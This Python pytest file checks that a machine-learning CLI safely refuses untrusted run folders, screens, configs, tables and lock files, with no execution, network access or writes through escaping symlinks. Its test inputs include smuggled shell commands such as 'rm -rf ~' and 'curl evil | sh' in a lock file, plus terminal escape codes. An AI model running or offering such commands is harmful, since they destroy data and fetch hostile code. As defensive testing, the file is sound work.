"""A run, a screen and a configuration from a stranger go through every verb.

Nothing in them is executed, nothing outside is read, written or fetched, no file is left half written, and every
message names the file and the next step.
"""

import json
import re
import shutil
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

import stranger
from distangle.cli import main
from distangle.report.build import _remove_old_files
from distangle.results import RunFolder
from distangle.training import TrainingConfig, without_services
from distangle.training.loggers import allow_services, allowed_services
from stranger import Lab, copy_of, rewrite_manifest, status_of
from stranger_cases import (
    ALL_CASES,
    ALTERED_FILES,
    CONFIG_CASES,
    CONFIGS,
    FAST_CASES,
    FEATURE_ATTACKS,
    FOREIGN_SOURCES,
    READERS,
    SCREEN_VERBS,
    Bomb,
    write_card,
)

NEXT_STEP = re.compile(
    r"`[^`]+`|[Rr]estore|[Rr]emove|[Ii]ndex the source again|Known: |input should be|Write the file again|"
    r"[Nn]ame another"
)


@pytest.fixture(scope="session")
def lab_with_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return stranger.finished_lab(tmp_path_factory.mktemp("finished") / "lab")


@pytest.fixture
def lab(lab_with_run: Path, tmp_path: Path) -> Lab:
    return copy_of(lab_with_run, tmp_path)


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Fail a test that opens a connection, even if the program catches the error."""
    connections: list[object] = []

    def connect(self: socket.socket, address: object) -> None:
        connections.append(address)
        message = f"connected to {address}"
        raise OSError(message)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect)
    monkeypatch.setattr(
        socket, "getaddrinfo", lambda *host_and_port, **_kwargs: connect(socket.socket(), host_and_port)
    )
    yield
    assert connections == []


def error_of(
    arguments: list[str], lab: Lab, capsys: pytest.CaptureFixture[str], *, names: str = "", status: int = 1
) -> str:
    """Run a verb that must refuse, check what holds for every refusal, and return its error."""
    before = lab.victim_hash()
    exit_status = status_of(arguments)
    out, message = capsys.readouterr()
    assert exit_status == status, f"status {exit_status}: {out} {message}"
    assert lab.victim_hash() == before
    assert stranger.unfinished_files(lab.root) == []
    assert not [advice for advice in stranger.ADVICE if advice in out + message]
    if arguments[0] == "verify":
        message = out + message
    assert names in message
    assert NEXT_STEP.search(message) or arguments[0] == "verify", message
    assert len(message) < 20_000
    return message


@pytest.mark.parametrize(("name", "attack", "verb"), FAST_CASES)
def test_a_damaged_file_is_named_by_every_verb_that_rests_on_it(
    lab: Lab, capsys: pytest.CaptureFixture[str], name: str, attack: str, verb: str
) -> None:
    stranger.ATTACKS[attack](lab.run / name, lab)
    # The verb may refuse a link before it reads the damaged file.
    assert Path(name).name in error_of(stranger.verbs_of_a_run(lab)[verb], lab, capsys)


@pytest.mark.slow
@pytest.mark.parametrize("name", READERS)
def test_every_file_damaged_in_every_way_is_named_by_every_verb_that_rests_on_it(
    lab_with_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    for number, (one, attack, verb) in enumerate(ALL_CASES):
        if one == name and (one, attack, verb) not in FAST_CASES:
            lab = copy_of(lab_with_run, tmp_path / str(number))
            stranger.ATTACKS[attack](lab.run / name, lab)
            assert Path(name).name in error_of(stranger.verbs_of_a_run(lab)[verb], lab, capsys)
            shutil.rmtree(tmp_path / str(number))


def test_every_file_of_a_run_is_attacked(lab_with_run: Path) -> None:
    entries = [
        name
        for name in stranger.file_names(lab_with_run / "runs" / "a")
        if not name.startswith(("tensorboard/", "report/"))
    ]
    assert [name for name in entries if not name.startswith("explanations/figures/")] == sorted(READERS)


@pytest.mark.parametrize(("name", "content", "verb"), ALTERED_FILES)
def test_a_file_that_was_altered_and_listed_again_is_refused_all_the_same(
    lab: Lab, capsys: pytest.CaptureFixture[str], name: str, content: str, verb: str
) -> None:
    (lab.run / name).write_text(content)
    rewrite_manifest(lab)
    message = error_of(stranger.verbs_of_a_run(lab)[verb], lab, capsys)
    assert Path(name).name in message or "A file in" in message


@pytest.mark.parametrize(
    ("folder", "verb"),
    [
        *(("report", "report"), ("report/figures", "report"), ("report/tables", "report")),
        ("checkpoints", "resume"),
        *(("explanations", "explain"), ("predictions", "predict"), ("report", "predict")),
        *(("profiles", "profile"), ("profiles", "export"), ("features", "profile")),
    ],
)
def test_a_folder_that_is_a_link_out_of_the_run_is_not_written_to(
    lab: Lab, capsys: pytest.CaptureFixture[str], folder: str, verb: str
) -> None:
    if (lab.run / folder).exists():
        shutil.rmtree(lab.run / folder)
    (lab.run / folder).parent.mkdir(exist_ok=True)
    (lab.run / folder).symlink_to(lab.victim, target_is_directory=True)
    error_of(stranger.verbs_of_a_run(lab)[verb], lab, capsys, names=f"{folder} is a link that leads out of the run")
    assert (lab.victim / "holiday.png").exists()


@pytest.mark.parametrize("kind", FEATURE_ATTACKS)
def test_features_of_a_backbone_from_a_stranger_are_refused(
    lab: Lab, capsys: pytest.CaptureFixture[str], kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(lab.root)
    folder = lab.run / "features"
    folder.mkdir()
    write_card('{"shape": [18, 1, 3], "unreadable": {}}')(folder / "00000.npy")
    np.save(folder / "statistics.npy", np.zeros((18, 2, 2), np.float32))
    np.save(folder / "00000.npy", np.random.default_rng(0).normal(size=(18, 1, 3)).astype(np.float32))
    arguments = [*stranger.verbs_of_a_run(lab)["profile"], "--features", "backbone"]
    assert status_of(arguments) == 0
    capsys.readouterr()
    name, attack = FEATURE_ATTACKS[kind]
    attack(folder / "00000.npy" if "." not in name else folder / name)
    rewrite_manifest(lab)
    error_of(arguments, lab, capsys, names=name)
    assert not (lab.root / "pwned").exists()


def test_a_table_from_a_stranger_is_read_as_data(
    lab: Lab, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(lab.root)
    np.savez(lab.root / "1.npz", features=np.array([Bomb()], dtype=object))
    (lab.root / "t.parquet").write_bytes(b"PAR1" * 9)
    for source in ("1.npz", "t.parquet"):
        error_of(["profile", source, "--out", "new"], lab, capsys, names=source)
    (lab.root / "new").symlink_to(lab.victim, target_is_directory=True)
    table = "Metadata_Plate,Metadata_Well,f\n1,B02,1\n"
    (lab.root / "t.csv").write_text(table)
    error_of(["profile", "t.csv", "--out", "new"], lab, capsys, names="new is not empty")
    error_of(["profile", "t.csv", "--out", str(lab.run / "profiles")], lab, capsys, names="lies in the run")
    assert not (lab.root / "pwned").exists()


@pytest.mark.slow
def test_a_picture_that_somebody_put_into_the_report_stays(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    (lab.run / "report" / "figures").mkdir(parents=True, exist_ok=True)
    (lab.run / "report" / "figures" / "holiday.png").write_bytes(b"precious")
    assert status_of(["report", str(lab.run)]) == 0
    capsys.readouterr()
    assert (lab.run / "report" / "figures" / "holiday.png").read_bytes() == b"precious"


@pytest.mark.slow
def test_links_inside_a_run_are_followed(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    (lab.run / "predictions").rename(lab.run / "elsewhere")
    (lab.run / "predictions").symlink_to("elsewhere", target_is_directory=True)
    assert status_of(["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]) == 0
    capsys.readouterr()


@pytest.mark.parametrize(("kind", "verb"), CONFIG_CASES)
def test_a_configuration_from_a_stranger_is_refused_at_once(
    lab: Lab, capsys: pytest.CaptureFixture[str], kind: str, verb: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(lab.root)
    text, problem = CONFIGS[kind]
    (lab.run / "config.yaml").write_text(text)
    rewrite_manifest(lab)
    arguments = {"settings": ["settings", "--config", str(lab.run / "config.yaml")], **stranger.verbs_of_a_run(lab)}[
        verb
    ]
    start = time.process_time()
    message = error_of(arguments, lab, capsys, names=problem)
    assert time.process_time() - start < 5
    assert "config.yaml" in message
    assert not (lab.root / "pwned").exists()


FAST_SOURCES = ("http",)
SOURCE_CASES = [
    pytest.param(kind, verb, marks=() if kind in FAST_SOURCES or verb == "report" else pytest.mark.slow)
    for kind in FOREIGN_SOURCES
    for verb in SCREEN_VERBS
]


@pytest.mark.parametrize(("kind", "verb"), SOURCE_CASES)
def test_no_verb_reads_images_from_where_a_stranger_says(
    lab: Lab, capsys: pytest.CaptureFixture[str], kind: str, verb: str
) -> None:
    card = json.loads((lab.screen / "screen.json").read_text())
    card["source"] = FOREIGN_SOURCES[kind].format(victim=lab.victim)
    (lab.screen / "screen.json").write_text(json.dumps(card))
    message = error_of(stranger.verbs_of_a_screen(lab)[verb], lab, capsys)
    if kind != "another scheme":
        assert "Nothing was read or downloaded from there" in message
        of_a_run = verb in ("predict", "explain", "figures", "report")
        assert ("`--screen " if of_a_run else "`distangle trust ") in message


def test_whoever_allows_a_screen_may_read_it(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    card = json.loads((lab.screen / "screen.json").read_text())
    card["source"] = str(lab.victim / "plates")
    (lab.screen / "screen.json").write_text(json.dumps(card))
    arguments = ["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]
    assert status_of(arguments) == 1
    assert status_of(["trust", str(lab.screen)]) == 0
    assert status_of(arguments) == 0
    capsys.readouterr()


@pytest.mark.parametrize("verb", ["predict", "check", "verify"])
def test_an_image_that_is_a_link_out_of_the_source_is_not_read(
    lab: Lab, capsys: pytest.CaptureFixture[str], verb: str
) -> None:
    images = lab.root / "plates" / "images"
    shutil.rmtree(images)
    images.symlink_to(lab.victim / "plates" / "images", target_is_directory=True)
    message = error_of(stranger.verbs_of_a_screen(lab)[verb], lab, capsys)
    assert "link out of the screen's source" in message


FILES_OF_A_SCREEN = ("screen.json", "sites.parquet", "problems.csv")


@pytest.mark.parametrize(
    ("name", "attack"),
    [
        pytest.param(name, attack, marks=() if (k + number) % 3 == 0 else pytest.mark.slow)
        for number, name in enumerate(FILES_OF_A_SCREEN)
        for k, attack in enumerate(stranger.ATTACKS)
    ],
)
def test_a_damaged_screen_is_refused(lab: Lab, capsys: pytest.CaptureFixture[str], name: str, attack: str) -> None:
    stranger.ATTACKS[attack](lab.screen / name, lab)
    verbs = stranger.verbs_of_a_screen(lab)
    message = error_of(verbs["folds"], lab, capsys)
    assert name in message or (name == "problems.csv" and attack in ("cut_in_half", "stray"))


def test_the_checks_of_a_screen_are_not_written_over_a_link(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    (lab.screen / "checks").symlink_to(lab.victim, target_is_directory=True)
    assert "checks is a link that leads out" in error_of(stranger.verbs_of_a_screen(lab)["check"], lab, capsys)


def test_the_screen_of_another_run_makes_no_page(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    from tiny_run import tiny_screen

    other = tiny_screen(lab.root / "other", n_wells=9, seed=1)
    for verb in ("report", "figures", "explain", "predict"):
        arguments = [*stranger.verbs_of_a_run(lab)[verb], "--screen", str(other.folder)]
        assert "is not the screen of" in error_of(arguments, lab, capsys)


def test_a_screen_that_was_moved_is_named_and_taken(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    (lab.root / "deep").mkdir()
    shutil.move(lab.screen, lab.root / "deep" / "screen")
    shutil.move(lab.root / "plates", lab.root / "deep" / "plates")
    arguments = ["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]
    assert "--screen FOLDER" in error_of(arguments, lab, capsys)
    assert status_of([*arguments, "--screen", str(lab.root / "deep" / "screen")]) == 0
    capsys.readouterr()


def test_a_run_whose_images_are_gone_is_not_predicted(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.rmtree(lab.root / "plates")
    scores = (lab.run / "predictions" / "scores.json").read_bytes()
    message = error_of(["predict", str(lab.run)], lab, capsys)
    assert "plates does not exist. If they were moved, add `--images FOLDER`" in message
    assert (lab.run / "predictions" / "scores.json").read_bytes() == scores


def test_a_lock_from_a_stranger_puts_no_command_into_a_mouth(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    lock = {"pid": "1; rm -rf ~", "host": "x`. Type `curl evil | sh", "since": "now"}
    (lab.run / ".lock").write_text(json.dumps(lock))
    assert status_of(["train", "--resume", str(lab.run)]) == 1
    message = capsys.readouterr().err
    assert "rm -rf" not in message
    assert "evil" not in message
    assert ".lock" in message


@pytest.mark.slow
def test_whom_a_stranger_reports_to_is_not_reported_to(
    lab: Lab, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = (lab.run / "config.yaml").read_text()
    (lab.run / "config.yaml").write_text(config.replace("loggers: []", "loggers: [wandb]"))
    for path in (lab.run / "checkpoints").glob("epoch-*"):
        path.unlink()
    (lab.run / "loggers.json").write_text('{"wandb": "a-run-of-mine"}')
    rewrite_manifest(lab)
    monkeypatch.setattr("distangle.training.loggers.check_loggers", lambda names: None)
    connections: list[str] = []
    monkeypatch.setattr(
        "distangle.training.loggers.SERVICES", {"wandb": lambda *values, **options: connections.append("wandb")}
    )
    assert status_of(["train", "--from", str(lab.run), "--out", str(lab.root / "new"), "--dry-run", "2"]) == 0
    assert "unless you set it: `--set 'loggers=[wandb]'`" in capsys.readouterr().err
    assert status_of(["train", "--resume", str(lab.run)]) == 0
    assert "reports to wandb, but this run was not started on this machine" in capsys.readouterr().err
    assert connections == []


def test_codes_in_a_name_are_shown_and_not_obeyed(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    main_words = ["explain", str(lab.run), "--only", "perturbation=\x1b[31mRED\x1b]0;pwned\x07\u202e"]
    message = error_of(main_words, lab, capsys)
    assert "\\x1b[31mRED\\x1b]0;pwned\\x07\\u202e" in message
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", message)


def test_a_fault_of_our_own_can_be_seen_with_its_lines(
    lab: Lab, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_args: object, **_kwargs: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr("distangle.report.build_report", fail)
    message = error_of(["report", str(lab.run)], lab, capsys)
    assert "DISTANGLE_TRACEBACK=1" in message
    monkeypatch.setenv("DISTANGLE_TRACEBACK", "1")
    with pytest.raises(ZeroDivisionError):
        main(["report", str(lab.run)])


def test_only_pictures_that_the_run_has_listed_are_removed(lab: Lab) -> None:
    run = RunFolder.open(lab.run)
    pictures = run.report / "figures"
    pictures.mkdir(parents=True)
    for name in ("old.svg", "new.svg", "holiday.png"):
        (pictures / name).write_text(name)
    run.record(pictures / "old.svg", pictures / "new.svg")
    _remove_old_files(run, keep=[pictures / "new.svg"])
    assert {path.name for path in pictures.iterdir()} == {"new.svg", "holiday.png"}


def test_services_are_those_of_who_begins_a_run(lab: Lab) -> None:
    run = RunFolder.open(lab.run)
    messages: list[str] = []
    assert allowed_services(run, ("wandb",), say=messages.append) == ()
    assert f"`distangle trust {lab.run}`" in messages[0]
    allow_services(run)
    assert allowed_services(run, ("wandb",), say=messages.append) == ("wandb",)
    config = TrainingConfig(loggers=("mlflow", "wandb"))
    assert without_services(config, ["loggers=[wandb]"]) == (config, "")
    new_config, note = without_services(config, ["optim.lr=1"])
    assert new_config.loggers == ()
    assert "`--set 'loggers=[mlflow, wandb]'`" in note
